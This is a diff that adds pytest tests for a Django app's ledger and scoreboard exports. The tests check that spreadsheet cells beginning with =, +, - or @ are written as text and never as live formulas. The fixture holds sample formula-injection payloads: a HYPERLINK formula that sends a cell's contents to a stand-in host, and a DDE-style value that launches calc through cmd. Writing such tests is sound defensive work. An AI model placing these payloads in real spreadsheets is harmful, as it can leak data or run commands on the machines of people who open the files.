@@ -1,0 +1,102 @@
+"""Exports write text that starts with = + - @ as text (issue #15): in the XLSX a string cell with Excel's
+quote prefix, never a live formula; in the CSV the text behind a "'". Figures stay numbers, a negative
+one included. The text comes from people: a metric from the data file, a department name edited in the
+admin."""
+
+import csv
+import datetime as dt
+import io
+import zipfile
+
+import openpyxl
+import pytest
+
+from progress import exports
+from progress.reports import department_scoreboard, monthly_figures, target_rows
+from progress.services import progress_entry_submit
+from targets.models import Department, Target
+
+pytestmark = pytest.mark.django_db
+
+AS_OF = dt.date(2020, 7, 3)
+HOSTILE = {
+    "metric": '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")',
+    "department": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "chapter": "+1+2",
+    "task": "-2+3",
+}
+
+
+@pytest.fixture
+def hostile_texts(clock, report_2020, official_zhang):
+    clock("2020-04-03")
+    target = Target.objects.get(report=report_2020, code="1.1.04")
+    progress_entry_submit(target=target, period_end=dt.date(2020, 3, 31), value="-6.5", by=official_zhang)
+    clock("2020-07-03")
+    Target.objects.filter(pk=target.pk).update(metric=HOSTILE["metric"])
+    Department.objects.filter(code="industry").update(name=HOSTILE["department"])
+    target.task.chapter.__class__.objects.filter(pk=target.task.chapter_id).update(title=HOSTILE["chapter"])
+    target.task.__class__.objects.filter(pk=target.task_id).update(title=HOSTILE["task"])
+    return target
+
+
+def ledger_inputs(manager):
+    rows = [row for row in target_rows(user=manager, as_of=AS_OF) if row.target.code == "1.1.04"]
+    return {
+        "rows": rows,
+        "monthly": monthly_figures(target_ids=[rows[0].target.pk], as_of=AS_OF),
+        "as_of": AS_OF,
+    }
+
+
+def test_the_xlsx_ledger_writes_formula_like_text_as_text(hostile_texts, manager_wang):
+    content = exports.ledger_xlsx(**ledger_inputs(manager_wang), title="=1+1 台账")
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    header = [cell.value for cell in sheet[2]]
+    row = dict(zip(header, sheet[3], strict=True))
+
+    for column, text in (
+        ("指标", "metric"),
+        ("牵头单位", "department"),
+        ("章节", "chapter"),
+        ("重点任务", "task"),
+    ):
+        assert row[column].value == HOSTILE[text]
+        assert row[column].data_type == "s", column
+        assert row[column].quotePrefix, column
+    assert sheet["A1"].data_type == "s"
+    assert row["3月"].value == -6.5
+    assert row["3月"].data_type == "n"
+
+
+def test_the_xlsx_holds_no_formula_at_all(hostile_texts, manager_wang):
+    content = exports.ledger_xlsx(**ledger_inputs(manager_wang), title="=1+1 台账")
+    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
+
+    assert "<f>" not in sheet_xml
+
+
+def test_the_csv_ledger_prefixes_formula_like_text_and_keeps_negative_figures(hostile_texts, manager_wang):
+    text = exports.ledger_csv(**ledger_inputs(manager_wang))
+    header, row = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
+    cells = dict(zip(header, row, strict=True))
+
+    assert cells["指标"] == "'" + HOSTILE["metric"]
+    assert cells["牵头单位"] == "'" + HOSTILE["department"]
+    assert cells["章节"] == "'+1+2"
+    assert cells["重点任务"] == "'-2+3"
+    assert cells["3月"] == "-6.5"
+
+
+def test_the_scoreboard_csv_and_xlsx_escape_a_department_name(hostile_texts, manager_wang):
+    scores = department_scoreboard(user=manager_wang, as_of=AS_OF)
+
+    lines = list(csv.reader(io.StringIO(exports.scoreboard_csv(scores=scores).removeprefix("\ufeff"))))
+    names = [line[1] for line in lines[1:]]
+    assert "'" + HOSTILE["department"] in names
+
+    sheet = openpyxl.load_workbook(
+        io.BytesIO(exports.scoreboard_xlsx(scores=scores, as_of=AS_OF, rule="x"))
+    ).active
+    cells = [row[1] for row in sheet.iter_rows(min_row=3) if row[1].value == HOSTILE["department"]]
+    assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
